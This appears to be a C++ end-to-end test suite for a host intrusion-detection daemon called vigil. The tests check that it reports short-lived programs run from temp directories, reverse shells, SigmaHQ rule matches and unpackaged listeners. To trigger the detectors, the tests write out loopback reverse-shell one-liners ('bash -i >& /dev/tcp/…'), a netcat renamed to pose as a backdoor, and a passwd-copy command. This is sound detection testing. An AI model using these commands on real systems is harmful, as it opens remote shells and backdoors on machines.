// End-to-end: vigil watch judges each exec the kernel reports (its BPF program, and separately
// the proc connector), so a program run from /tmp that lives a tenth of a second, and a reverse
// shell, are reported with their program, arguments and parent; with BPF, a shell whose
// connection becomes its input and output is a reverse shell from the connect event alone; and
// where BPF is refused the daemon says so and falls back to the proc connector.
#include <netinet/in.h>
#include <sys/socket.h>

#include <filesystem>

#include <gtest/gtest.h>

#include "e2e/watch_support.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

const std::string kSigmaLinux = std::string(VIGIL_SOURCE_DIR) + "/../shared/corpus/sigma/rules/linux";

std::string process_config(const TempDir& d, const std::string& mode, const std::string& rules = "") {
  return "state_dir: " + d / "state" + "\nsources:\n  triage: off\n  processes: " + mode +
         (rules.empty() ? std::string() : "\nrules:\n  paths: [" + rules + "]") + "\nsinks:\n  - {type: jsonl, path: " +
         d / "out.jsonl" + "}\n";
}

// Started with process events from `mode` (auto, bpf, connector), or false.
bool start(const TempDir& d, std::unique_ptr<WatchDaemon>& w, const std::string& mode = "auto",
           const std::string& rules = "") {
  d.write("w.yaml", process_config(d, mode, rules));
  w = std::make_unique<WatchDaemon>(d, std::vector<std::string>{"--config", d / "w.yaml"});
  if (!watch_started(d)) return false;
  return wait_for([&] { return fs::exists(d / "state/status.json"); });
}

std::string source_of(const TempDir& d) {
  auto s = nlohmann::json::parse(slurp(d / "state/status.json"), nullptr, false);
  return s.is_object() && s.contains("processes") ? s["processes"].value("source", "") : "";
}

// A listener on loopback the test runs: the attacker's end of a reverse shell.
struct Listener {
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int port = 0;
  Listener() {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof a;
    if (::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 && ::listen(fd, 1) == 0 &&
        ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len) == 0)
      port = ntohs(a.sin_port);
  }
  ~Listener() { ::close(fd); }
};

// Why process events are off, or "" (a fallback to the proc connector is not a refusal).
std::string refused(const TempDir& d) {
  for (const auto& f : written(d, "watch.source-problem"))
    if (f["event"]["reason"] == "unavailable" && f["message"].get<std::string>().find("Process events") != std::string::npos)
      return f["message"];
  return {};
}

std::vector<nlohmann::json> about(const TempDir& d, const std::string& rule, const std::string& exe) {
  std::vector<nlohmann::json> out;
  for (const auto& f : written(d, rule))
    if (f.contains("process") && f["process"].value("executable", "") == exe) out.push_back(f);
  return out;
}

}  // namespace

// The same check through each source: BPF (which also knows a program that ended before /proc
// could be read) and the proc connector.
void short_lived_program_from_tmp(const std::string& mode) {
  TempDir d("vigil-watch-proc");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w, mode)) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  std::string copy = d / "updater";
  fs::copy_file("/usr/bin/sleep", copy);
  auto r = run_vigil_as({copy, "0.15"});  // exits after 150 ms
  ASSERT_EQ(r.exit_code, 0);
  ASSERT_TRUE(wait_for([&] { return !about(d, "process.temp-executable", copy).empty(); }, 3.0))
      << slurp(d / "err.txt") << slurp(d / "out.jsonl");
  auto f = about(d, "process.temp-executable", copy)[0];
  EXPECT_EQ(f["process"]["command_line"], copy + " 0.15");
  EXPECT_EQ(f["event"]["action"], "exec");
  EXPECT_FALSE(f["process"]["parent"]["executable"].get<std::string>().empty()) << f.dump();
  EXPECT_EQ(source_of(d), mode == "connector" ? "proc connector" : mode);
  // A packaged program run from its usual place says nothing.
  run_vigil_as({"/usr/bin/sleep", "0.05"});
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_TRUE(about(d, "process.temp-executable", "/usr/bin/sleep").empty());
  EXPECT_EQ(w->stop(SIGTERM), 0);
}

TEST(WatchProcesses, AProgramFromTmpThatLivesAFractionOfASecondIsReported_Bpf) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  short_lived_program_from_tmp("bpf");
}

TEST(WatchProcesses, AProgramFromTmpThatLivesAFractionOfASecondIsReported_ProcConnector) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  short_lived_program_from_tmp("connector");
}

// The audit subsystem's records, read from its netlink group beside auditd: only where audit is
// on with a rule that records execve (the test changes no audit setting of the host).
TEST(WatchProcesses, AProgramFromTmpThatLivesAFractionOfASecondIsReported_Audit) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  short_lived_program_from_tmp("audit");
}

// With BPF the exec event carries the program and its arguments: a program that has already
// ended when the daemon reads /proc is still judged, and marked as such. 300 at once make sure
// some end first.
TEST(WatchProcesses, AProgramGoneBeforeItCouldBeReadIsJudgedFromTheKernelsEvent) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  TempDir d("vigil-watch-gone");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w, "bpf")) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  std::string copy = d / "t";
  fs::copy_file("/usr/bin/true", copy);
  auto r = run_vigil_as({"/bin/sh", "-c", "i=0; while [ $i -lt 300 ]; do " + copy + " gone-arg; i=$((i+1)); done"});
  ASSERT_EQ(r.exit_code, 0);
  auto marked = [&] {
    for (const auto& f : about(d, "process.temp-executable", copy))
      if (f.contains("vigil") && f["vigil"].contains("enrichment")) return true;
    return false;
  };
  ASSERT_TRUE(wait_for(marked, 5.0)) << slurp(d / "state/status.json");
  for (const auto& f : about(d, "process.temp-executable", copy)) EXPECT_EQ(f["process"]["command_line"], copy + " gone-arg");
  auto counted = [&] {  // status.json is rewritten every second
    auto status = nlohmann::json::parse(slurp(d / "state/status.json"), nullptr, false);
    return status.is_object() && status["processes"]["gone"].get<int>() > 0;
  };
  EXPECT_TRUE(wait_for(counted, 3.0)) << slurp(d / "state/status.json");
  EXPECT_EQ(w->stop(SIGTERM), 0);
}

// `bash -i >& /dev/tcp/…` typed at a prompt (here: in a script, so no command line shows
// /dev/tcp): only the connect event and the shell's descriptors a moment later tell.
TEST(WatchProcesses, AShellWhoseConnectionBecomesItsInputIsAReverseShellFromTheConnectEvent) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  TempDir d("vigil-watch-connect");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w, "bpf")) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  Listener attacker;
  ASSERT_GT(attacker.port, 0);
  d.write("job.sh", "bash -i >& /dev/tcp/127.0.0.1/" + std::to_string(attacker.port) + " 0>&1\n");
  {
    Planted shell("/bin/bash", {"bash", d / "job.sh"});
    ASSERT_TRUE(wait_for([&] { return !written(d, "process.reverse-shell").empty(); }, 3.0))
        << slurp(d / "err.txt") << slurp(d / "out.jsonl");
  }
  auto f = written(d, "process.reverse-shell")[0];
  EXPECT_EQ(f["vigil"]["severity"], "critical");
  EXPECT_EQ(f["event"]["action"], "connect");
  EXPECT_EQ(f["destination"]["ip"], "127.0.0.1");
  EXPECT_EQ(f["destination"]["port"], attacker.port);
  EXPECT_EQ(f["process"]["command_line"], "bash -i");
  // A shell that only checks a port (a health check) is a low note, not a reverse shell.
  Listener service;
  d.write("check.sh", "exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(service.port) + "\nexec 3>&-\n");
  auto r = run_vigil_as({"/bin/bash", d / "check.sh"});
  ASSERT_EQ(r.exit_code, 0);
  auto noted = [&] {
    for (const auto& n : written(d, "process.shell-network-connection"))
      if (n["destination"]["port"] == service.port) return true;
    return false;
  };
  ASSERT_TRUE(wait_for(noted, 3.0)) << slurp(d / "out.jsonl");
  EXPECT_EQ(written(d, "process.reverse-shell").size(), 1u);
  for (const auto& n : written(d, "process.shell-network-connection")) EXPECT_EQ(n["vigil"]["severity"], "low");
  EXPECT_EQ(w->stop(SIGTERM), 0);
}

// A root daemon without CAP_BPF, CAP_PERFMON and CAP_SYS_ADMIN (as a hardened unit could be):
// the kernel refuses the program, the daemon says so once and uses the proc connector.
// The next source is the audit subsystem's records where audit records execve here, else the
// proc connector; either way the finding says why each better one was passed over.
TEST(WatchProcesses, BpfRefusedFallsBackAndSaysSo) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  if (!fs::exists("/usr/bin/setpriv")) GTEST_SKIP() << "needs setpriv (util-linux)";
  TempDir d("vigil-watch-nobpf");
  d.write("w.yaml", process_config(d, "auto"));
  WatchDaemon w(d, "/usr/bin/setpriv",
                {"setpriv", "--bounding-set=-bpf,-perfmon,-sys_admin", "--inh-caps=-bpf,-perfmon,-sys_admin",
                 VIGIL_BINARY, "watch", "--config", d / "w.yaml"});
  ASSERT_TRUE(watch_started(d)) << slurp(d / "err.txt");
  ASSERT_TRUE(wait_for([&] { return fs::exists(d / "state/status.json"); }));
  auto said = [&] {
    for (const auto& f : written(d, "watch.source-problem"))
      if (f["event"]["reason"] == "fallback") return true;
    return false;
  };
  ASSERT_TRUE(wait_for([&] { return said() || !refused(d).empty(); }, 3.0)) << slurp(d / "err.txt");
  if (!said()) GTEST_SKIP() << "the proc connector is refused too: " << refused(d);
  auto f = written(d, "watch.source-problem")[0];
  EXPECT_EQ(f["vigil"]["severity"], "info");
  const auto message = f["message"].get<std::string>();
  EXPECT_NE(message.find("BPF: "), std::string::npos) << f.dump();
  EXPECT_NE(message.find("refused"), std::string::npos) << f.dump();
  const auto source = source_of(d);
  EXPECT_TRUE(source == "proc connector" || source == "audit") << source;
  if (source == "proc connector") {
    EXPECT_NE(message.find("audit: "), std::string::npos) << f.dump();
  }
  // And it still sees execs (a program that lives a second: this test is about the fallback,
  // not about the shortest-lived programs, which a loaded 2-core machine may read too late).
  std::string copy = d / "updater";
  fs::copy_file("/usr/bin/sleep", copy);
  run_vigil_as({copy, "1"});
  EXPECT_TRUE(wait_for([&] { return !about(d, "process.temp-executable", copy).empty(); }, 3.0));
  EXPECT_EQ(w.stop(SIGTERM), 0);
}

TEST(WatchProcesses, AReverseShellIsReportedFromItsExec) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  TempDir d("vigil-watch-revshell");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w)) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  Listener attacker;
  ASSERT_GT(attacker.port, 0);
  std::string port = std::to_string(attacker.port);
  std::vector<nlohmann::json> from_exec;
  auto seen = [&] {
    from_exec.clear();
    for (const auto& f : written(d, "process.reverse-shell"))
      if (f["event"]["action"] == "exec") from_exec.push_back(f);
    return !from_exec.empty();
  };
  {
    Planted shell("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/" + port + " 0>&1"});
    ASSERT_TRUE(wait_for(seen, 3.0)) << slurp(d / "err.txt") << slurp(d / "out.jsonl");
  }
  auto f = from_exec[0];
  EXPECT_EQ(f["vigil"]["severity"], "critical");
  EXPECT_NE(f["process"]["command_line"].get<std::string>().find("/dev/tcp/127.0.0.1/" + port), std::string::npos);
  EXPECT_EQ(f["event"]["action"], "exec");
  EXPECT_EQ(w->stop(SIGTERM), 0);
}

// SigmaHQ's linux process_creation rules, unchanged from the corpus, judge each exec: "Copy
// Passwd Or Shadow From TMP Path" (Image ends with /cp, CommandLine has /tmp/ and passwd).
// SigmaHQ rules have no name, so their findings carry logs.<uuid>.
const std::string kCopyPasswd = "logs.fa4aaed5-4fe0-498d-bbc0-08e3346387ba";
TEST(WatchProcesses, ASigmaHqProcessCreationRuleFiresOnACommandTheTestRuns) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  if (!fs::exists(kSigmaLinux)) GTEST_SKIP() << "../shared/corpus is absent: SigmaHQ rules test skipped";
  TempDir d("vigil-watch-sigma");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w, "auto", kSigmaLinux + "/process_creation")) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  d.write("passwd", "root:x:0:0:root:/root:/bin/bash\n");
  auto r = run_vigil_as({"/bin/cp", d / "passwd", d / "copy"});
  ASSERT_EQ(r.exit_code, 0);
  auto copied = [&] {
    for (const auto& f : written(d, kCopyPasswd))
      if (f["process"]["command_line"] == "/bin/cp " + d / "passwd" + " " + d / "copy") return true;
    return false;
  };
  ASSERT_TRUE(wait_for(copied, 3.0)) << slurp(d / "err.txt") << slurp(d / "out.jsonl");
  auto f = written(d, kCopyPasswd)[0];
  EXPECT_EQ(f["vigil"]["severity"], "high");
  EXPECT_EQ(f["event"]["action"], "exec");
  EXPECT_EQ(f["rule"]["uuid"], "fa4aaed5-4fe0-498d-bbc0-08e3346387ba");
  EXPECT_FALSE(f["process"]["parent"]["executable"].get<std::string>().empty());
  // The same program on other files says nothing.
  d.write("notes", "x\n");
  run_vigil_as({"/bin/cp", d / "notes", d / "notes2"});
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_EQ(written(d, kCopyPasswd).size(), 1u);
  EXPECT_EQ(w->stop(SIGTERM), 0);
}

// And the network_connection rules each connect: "Linux Reverse Shell Indicator" (bash
// connecting anywhere but 127.0.0.1 or 0.0.0.0) on a connection to 127.0.0.2, still loopback.
TEST(WatchProcesses, ASigmaHqNetworkConnectionRuleFiresOnAConnectEvent) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  if (!fs::exists(kSigmaLinux)) GTEST_SKIP() << "../shared/corpus is absent: SigmaHQ rules test skipped";
  TempDir d("vigil-watch-sigma-net");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w, "bpf", kSigmaLinux + "/network_connection")) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(0x7f000002);  // 127.0.0.2
  socklen_t len = sizeof a;
  ASSERT_EQ(::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(::listen(fd, 1), 0);
  ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len);
  int port = ntohs(a.sin_port);
  d.write("probe.sh", "exec 3<>/dev/tcp/127.0.0.2/" + std::to_string(port) + "\nexec 3>&-\n");
  auto r = run_vigil_as({"/bin/bash", d / "probe.sh"});
  ::close(fd);
  ASSERT_EQ(r.exit_code, 0);
  const std::string rule = "logs.83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871";
  std::vector<nlohmann::json> found;
  ASSERT_TRUE(wait_for([&] { return !(found = written(d, rule)).empty(); }, 3.0)) << slurp(d / "out.jsonl");
  EXPECT_EQ(found[0]["event"]["action"], "connect");
  EXPECT_EQ(found[0]["destination"]["ip"], "127.0.0.2");
  EXPECT_EQ(found[0]["destination"]["port"], port);
  EXPECT_EQ(found[0]["vigil"]["severity"], "critical");
  EXPECT_EQ(w->stop(SIGTERM), 0);
}

namespace {

// Rows of a query over the daemon's event tables, as JSON objects.
std::vector<nlohmann::json> event_rows(const TempDir& d, const std::string& sql) {
  auto r = run_vigil({"query", "--events", d / "state/events.db", "--format", "json", sql});
  auto j = nlohmann::json::parse(r.out, nullptr, false);
  if (!j.is_array()) return {};
  return {j.begin(), j.end()};
}

}  // namespace

// osquery's process_events and socket_events: every exec and connection is a row `vigil query`
// reads, and rows written before a kill -9 are still there after the restart.
TEST(WatchProcesses, EveryExecAndConnectionIsARowOfTheEventTablesAndSurvivesKill9) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  TempDir d("vigil-watch-events");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w, "bpf")) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  Listener service;
  ASSERT_GT(service.port, 0);
  std::string copy = d / "fetch";
  fs::copy_file("/bin/nc.traditional", copy);
  auto r = run_vigil_as({copy, "-z", "127.0.0.1", std::to_string(service.port)});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const std::string by_copy = "SELECT pid, executable, cmdline, package, parent_executable, source FROM process_events "
                              "WHERE executable = '" + copy + "'";
  ASSERT_TRUE(wait_for([&] { return !event_rows(d, by_copy).empty(); }, 4.0)) << slurp(d / "err.txt");
  auto exec = event_rows(d, by_copy)[0];
  EXPECT_EQ(exec["cmdline"], copy + " -z 127.0.0.1 " + std::to_string(service.port));
  EXPECT_EQ(exec["package"], "");
  EXPECT_EQ(exec["source"], "bpf");
  EXPECT_FALSE(exec["parent_executable"].get<std::string>().empty());
  const std::string connects = "SELECT pid, executable, protocol, remote_address, remote_port FROM socket_events "
                               "WHERE action = 'connect' AND remote_port = " + std::to_string(service.port);
  ASSERT_TRUE(wait_for([&] { return !event_rows(d, connects).empty(); }, 3.0));
  auto conn = event_rows(d, connects)[0];
  EXPECT_EQ(conn["pid"], exec["pid"]);
  EXPECT_EQ(conn["executable"], copy);
  EXPECT_EQ(conn["protocol"], "tcp");
  EXPECT_EQ(conn["remote_address"], "127.0.0.1");

  // kill -9: what was written stays, and the restarted daemon adds to it.
  w->kill9();
  ASSERT_EQ(event_rows(d, by_copy).size(), 1u);
  fs::remove(d / "state/status.json");  // start() waits for the new daemon's
  ASSERT_TRUE(start(d, w, "bpf")) << slurp(d / "err.txt");
  r = run_vigil_as({copy, "-z", "127.0.0.1", std::to_string(service.port)});
  ASSERT_TRUE(wait_for([&] { return event_rows(d, by_copy).size() == 2; }, 4.0)) << slurp(d / "err.txt");
  EXPECT_EQ(w->stop(SIGTERM), 0);
  auto status = run_vigil({"watch", "--state-dir", d / "state", "--status"});
  EXPECT_EQ(status.exit_code, 3);  // not running; the tables outlive it
  EXPECT_EQ(event_rows(d, "SELECT count(*) AS n FROM socket_events WHERE remote_port = " + std::to_string(service.port))[0]["n"], 2);
}

// The renamed netcat listening from /tmp, for a few seconds between two periodic triages: its
// bind is looked at again and the triage's network detectors judge it while it runs. The same
// netcat where its package put it, listening on loopback, is quiet.
TEST(WatchProcesses, AnUnpackagedListenerIsReportedFromItsBind) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  TempDir d("vigil-watch-bind");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w, "bpf")) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  std::string copy = d / "msupdate";
  fs::copy_file("/bin/nc.traditional", copy);
  Listener probe;  // a free port: taken and released
  const int port = probe.port;
  ::close(probe.fd);
  probe.fd = -1;
  {
    Planted backdoor(copy, {"msupdate", "-l", "-p", std::to_string(port)});
    ASSERT_TRUE(wait_for([&] { return !about(d, "network.unowned-public-listener", copy).empty(); }, 3.0))
        << slurp(d / "err.txt") << slurp(d / "out.jsonl");
  }
  auto f = about(d, "network.unowned-public-listener", copy)[0];
  EXPECT_EQ(f["vigil"]["severity"], "high");  // unpackaged, from /tmp, on every address
  EXPECT_EQ(f["event"]["action"], "listen");
  EXPECT_EQ(f["destination"]["port"], port) << f.dump();
  {
    Planted packaged("/bin/nc.traditional", {"nc", "-l", "-s", "127.0.0.1", "-p", std::to_string(port)});
    std::this_thread::sleep_for(std::chrono::milliseconds(800));
  }
  for (const auto& rule : {"network.unowned-public-listener", "process.unowned-listener"})
    EXPECT_TRUE(about(d, rule, "/usr/bin/nc.traditional").empty()) << slurp(d / "out.jsonl");
  EXPECT_EQ(w->stop(SIGTERM), 0);
}
